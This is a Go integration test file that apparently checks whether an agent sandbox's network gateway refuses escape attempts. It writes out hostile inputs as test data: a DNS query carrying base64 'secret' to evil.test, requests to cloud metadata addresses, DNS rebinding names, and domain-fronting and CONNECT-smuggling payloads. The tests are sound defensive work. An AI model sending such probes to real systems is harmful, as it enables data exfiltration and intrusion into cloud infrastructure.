package network

import (
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/agentsafe/agentsafe/integration/harness"
)

// attempt is one thing that testdata/attempts.py tries.
type attempt struct {
	Kind   string `json:"kind"`
	Host   string `json:"host,omitempty"`
	Port   int    `json:"port,omitempty"`
	Name   string `json:"name,omitempty"`
	Type   int    `json:"type,omitempty"`
	Server string `json:"server,omitempty"`
	SNI    string `json:"sni,omitempty"`
	Send   string `json:"send,omitempty"`
}

type came struct {
	Result  any
	Seconds float64
}

// try makes all attempts in one container and returns what came of each, and what the gateway says was refused.
func try(t *testing.T, network string, list []attempt) ([]came, []refusal) {
	t.Helper()
	return tryIn(t, func(folder, script string) harness.Result {
		return box.Run(t, harness.Cmd{Args: []string{
			ctl(t), "run", "--quiet", "--profile", profileFile(t, network), "--workspace", folder, "--", "sh", "-c", script,
		}})
	}, list)
}

// tryIn does that in a container that run starts, whose script finds the files of the folder in its working directory.
func tryIn(t *testing.T, run func(folder, script string) harness.Result, list []attempt) ([]came, []refusal) {
	t.Helper()
	script, err := os.ReadFile("testdata/attempts.py")
	if err != nil {
		t.Fatal(err)
	}
	folder := box.TempDir(t)
	var lines strings.Builder
	for _, a := range list {
		line, err := json.Marshal(a)
		if err != nil {
			t.Fatal(err)
		}
		lines.Write(append(line, '\n'))
	}
	for name, data := range map[string][]byte{"attempts.py": script, "attempts": []byte(lines.String())} {
		if err := os.WriteFile(filepath.Join(folder, name), data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	r := run(folder, "python3 attempts.py <attempts && curl -sS http://gateway.agentsafe.internal/")
	out := strings.Split(strings.TrimSpace(r.Stdout), "\n")
	if r.Exit != 0 || len(out) != len(list)+1 {
		t.Fatalf("%d lines for %d attempts\n%v", len(out), len(list), r)
	}
	results := make([]came, len(list))
	for i := range list {
		if err := json.Unmarshal([]byte(out[i]), &results[i]); err != nil {
			t.Fatal(err)
		}
	}
	var status struct{ Refused []refusal }
	if err := json.Unmarshal([]byte(out[len(list)]), &status); err != nil {
		t.Fatal(err)
	}
	return results, status.Refused
}

type refusal struct {
	Event, Name, Address, Code, Reason string
	Port                               int
}

func (c came) text() string {
	if s, ok := c.Result.(string); ok {
		return s
	}
	b, err := json.Marshal(c.Result)
	if err != nil {
		return err.Error()
	}
	return string(b)
}

// TestAttack_Refused tries what must be refused, each at once and with the reason in the gateway's own list. All of it
// has a server that would answer.
func TestAttack_Refused(t *testing.T) {
	const head = "GET / HTTP/1.1\r\nHost: "
	for _, group := range []struct {
		name string
		list []struct {
			attempt
			want string // a pattern of the result
			code string // in the gateway's list; "" for none
		}
	}{
		{"names", []struct {
			attempt
			want, code string
		}{
			{attempt{Kind: "lookup", Name: "other.test"}, `Name or service not known|No address`, "no-rule"},
			{attempt{Kind: "lookup", Name: "example.com.evil.test"}, `Name or service not known`, "no-rule"},
			{attempt{Kind: "lookup", Name: "notexample.com"}, `Name or service not known`, "no-rule"},
			{attempt{Kind: "lookup", Name: "www.example.com"}, `Name or service not known`, "no-rule"},
			{attempt{Kind: "dns", Name: "a\x00.example.com"}, `rcode 3 answers 0`, "bad-name"},
			{attempt{Kind: "dns", Name: "127.1"}, `rcode 3 answers 0`, "bad-name"},
			{attempt{Kind: "dns", Name: "0x7f000001"}, `rcode 3 answers 0`, "bad-name"},
			{attempt{Kind: "dns", Name: "EXAMPLE.com"}, `rcode 0 answers 1`, ""},
			{attempt{Kind: "dns", Name: "example.com", Type: 65}, `rcode 0 answers 0`, ""},
			{attempt{Kind: "dns", Name: "example.com", Type: 16}, `rcode 0 answers 0`, ""},
			{attempt{Kind: "dns", Name: "other.test", Server: "10.9.9.9"}, `rcode 3 answers 0`, "no-rule"},
			{attempt{Kind: "dns", Name: "example.com", Server: "127.0.0.1"}, `rcode 0 answers 1`, ""},
		}},
		{"addresses", []struct {
			attempt
			want, code string
		}{
			{attempt{Kind: "tcp", Host: public4, Port: 80, Send: head + "example.com\r\n\r\n"}, `403 Forbidden(.|\n)*"code":"no-name"`, "no-name"},
			{attempt{Kind: "tls", Host: public4, SNI: "example.com"}, `(?i)alert access denied|access_denied`, "no-name"},
			{attempt{Kind: "tls", Host: public6, SNI: "example.com"}, `(?i)alert access denied`, "no-name"},
			{attempt{Kind: "tcp", Host: "169.254.169.254", Port: 80, Send: head + "x\r\n\r\n"}, `403 Forbidden`, "no-name"},
			{attempt{Kind: "tcp", Host: "100.100.100.200", Port: 80, Send: head + "x\r\n\r\n"}, `403 Forbidden`, "no-name"},
			{attempt{Kind: "tcp", Host: "fd00:ec2::254", Port: 80, Send: head + "x\r\n\r\n"}, `403 Forbidden`, "no-name"},
			{attempt{Kind: "tcp", Host: "10.9.9.9", Port: 5432}, `ConnectionResetError`, "no-name"},
			{attempt{Kind: "tcp", Host: "::ffff:169.254.169.254", Port: 80, Send: head + "x\r\n\r\n"}, `403 Forbidden|error`, ""},
			{attempt{Kind: "tcp", Host: "198.18.77.77", Port: 80, Send: head + "example.com\r\n\r\n"}, `403 Forbidden(.|\n)*no name that was asked for`, "no-name"},
			{attempt{Kind: "tcp", Host: "0x5db8d822", Port: 80, Send: head + "x\r\n\r\n"}, `403 Forbidden|error`, ""},
			{attempt{Kind: "udp", Host: public4, Port: 443}, `error PermissionError`, ""}, // QUIC
			{attempt{Kind: "udp", Host: "10.9.9.9", Port: 123}, `error PermissionError`, ""},
			{attempt{Kind: "udp", Host: public6, Port: 443}, `error PermissionError`, ""},
		}},
		{"rebinding", []struct {
			attempt
			want, code string
		}{
			{attempt{Kind: "lookup", Name: "private.test"}, `Name or service not known`, "bad-address"},
			{attempt{Kind: "lookup", Name: "metadata.test"}, `Name or service not known`, "bad-address"},
			{attempt{Kind: "lookup", Name: "metadata6.test"}, `Name or service not known`, "bad-address"},
			{attempt{Kind: "lookup", Name: "mapped.test"}, `Name or service not known`, "bad-address"},
			{attempt{Kind: "lookup", Name: "nat64.test"}, `Name or service not known`, "bad-address"},
			{attempt{Kind: "lookup", Name: "loop.test"}, `Name or service not known`, "bad-address"},
			{attempt{Kind: "lookup", Name: "self.test"}, `Name or service not known`, "bad-address"},
			{attempt{Kind: "lookup", Name: "ula.test"}, `Name or service not known`, "bad-address"},
			{attempt{Kind: "lookup", Name: "cgnat.test"}, `Name or service not known`, "bad-address"},
			{attempt{Kind: "tls", Host: "mixed.test", SNI: "mixed.test"}, `world`, ""}, // by its public address
		}},
		{"fronting", []struct {
			attempt
			want, code string
		}{
			{attempt{Kind: "tls", Host: "example.com", SNI: "other.test"}, `(?i)alert access denied`, "name-mismatch"},
			{attempt{Kind: "tls", Host: "example.com", SNI: "dual.test"}, `(?i)alert access denied`, "name-mismatch"},
			{attempt{Kind: "tls", Host: "example.com"}, `(?i)alert access denied`, "hidden-name"},
			{attempt{Kind: "tls", Host: "example.com", SNI: "example.com"}, `world`, ""},
			{attempt{Kind: "tcp", Host: "example.com", Port: 80, Send: head + "other.test\r\n\r\n"}, `403 Forbidden(.|\n)*name-mismatch`, "name-mismatch"},
			{attempt{Kind: "tcp", Host: "example.com", Port: 80, Send: "GET http://other.test/ HTTP/1.1\r\nHost: example.com\r\n\r\n"}, `403 Forbidden`, "name-mismatch"},
			{attempt{Kind: "tcp", Host: "example.com", Port: 80, Send: "CONNECT other.test:443 HTTP/1.1\r\nHost: other.test:443\r\n\r\n"}, `403 Forbidden`, "wrong-protocol"},
			{
				attempt{Kind: "tcp", Host: "example.com", Port: 80, Send: head + "example.com\r\n\r\n" + head + "other.test\r\nConnection: close\r\n\r\n"},
				`200 OK(.|\n)*403 Forbidden`, "name-mismatch",
			},
			{attempt{Kind: "tcp", Host: "example.com", Port: 80, Send: head + "example.com\r\nHost: other.test\r\n\r\n"}, `400 Bad Request`, ""},
			{attempt{Kind: "tcp", Host: "example.com", Port: 80, Send: "SSH-2.0-x\r\n"}, `error|^$`, "wrong-protocol"},
			{attempt{Kind: "tcp", Host: "dual.test", Port: 443, Send: "SSH-2.0-x\r\n"}, `error|^$`, "wrong-protocol"},
			{attempt{Kind: "tcp", Host: "example.com", Port: 8443, Send: "\x16\x03\x01"}, `^\x15\x03\x03\x00\x02\x021$`, "no-rule"},
			{attempt{Kind: "slowly", Host: "example.com", Port: 80, Send: head + "example.com\r\nConnection: close\r\n\r\n"}, `200 OK`, ""},
			{attempt{Kind: "tcp", Host: "proxy.agentsafe.internal", Port: 3128, Send: "CONNECT other.test:443 HTTP/1.1\r\nHost: other.test:443\r\n\r\n"}, `403 Forbidden`, "no-rule"},
			{attempt{Kind: "tcp", Host: "proxy.agentsafe.internal", Port: 3128, Send: "GET http://169.254.169.254/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"}, `403 Forbidden`, "no-name"},
		}},
	} {
		t.Run(group.name, func(t *testing.T) {
			var list []attempt
			for _, c := range group.list {
				list = append(list, c.attempt)
			}
			results, refused := try(t, rules("example.com:443", "http://example.com", "dual.test", "mixed.test", "private.test", "metadata.test",
				"metadata6.test", "mapped.test", "nat64.test", "loop.test", "self.test", "ula.test", "cgnat.test"), list)
			for i, c := range group.list {
				if !regexp.MustCompile(c.want).MatchString(results[i].text()) {
					t.Errorf("%+v: got %q, want %s", c.attempt, results[i].text(), c.want)
				}
				if results[i].Seconds > 4 {
					t.Errorf("%+v: took %.1f s", c.attempt, results[i].Seconds)
				}
				if c.code != "" && !slices.ContainsFunc(refused, func(r refusal) bool { return r.Code == c.code }) {
					t.Errorf("%+v: the gateway lists no refusal %q: %+v", c.attempt, c.code, refused)
				}
			}
		})
	}
}

// Nothing that was refused may have been asked for outside: the question itself would carry data.
func TestAttack_DNSExfiltration(t *testing.T) {
	long := strings.Repeat("abcdefgh", 5) + "x.wild.test"
	secret := "q7m2zk4xw9t3bv8n5hy6jc1rpdlf0gsa.wild.test"
	results, _ := try(t, rules("*.wild.test", "example.com"), []attempt{
		{Kind: "dns", Name: "c2VjcmV0.evil.test"},
		{Kind: "dns", Name: long},
		{Kind: "dns", Name: secret},
		{Kind: "dns", Name: "cdn-17.wild.test"},
		{Kind: "dns", Name: "sub.example.com", Type: 16},
	})
	for i, want := range []string{"rcode 3 answers 0", "rcode 3 answers 0", "rcode 3 answers 0", "rcode 0 answers 1", "rcode 3 answers 0"} {
		if results[i].text() != want {
			t.Errorf("question %d: %s, want %s", i, results[i].text(), want)
		}
	}
	asked := outside.questions()
	for _, name := range []string{"c2vjcmv0.evil.test", long, secret, "sub.example.com"} {
		if slices.Contains(asked, strings.ToLower(name)) {
			t.Errorf("%s was asked for outside", name)
		}
	}
	if !slices.Contains(asked, "cdn-17.wild.test") {
		t.Errorf("the allowed name was not asked for: %v", asked)
	}
}

// CVE-2025-66479: an empty list allowed everything.
func TestAttack_EmptyAllowList(t *testing.T) {
	results, _ := try(t, "  mode: gateway\n  dialFrom: host\n", []attempt{
		{Kind: "lookup", Name: "example.com"}, {Kind: "tcp", Host: public4, Port: 80, Send: "GET / HTTP/1.1\r\n\r\n"},
	})
	if !strings.Contains(results[0].text(), "not known") || !strings.Contains(results[1].text(), "403") {
		t.Errorf("%+v", results)
	}
}
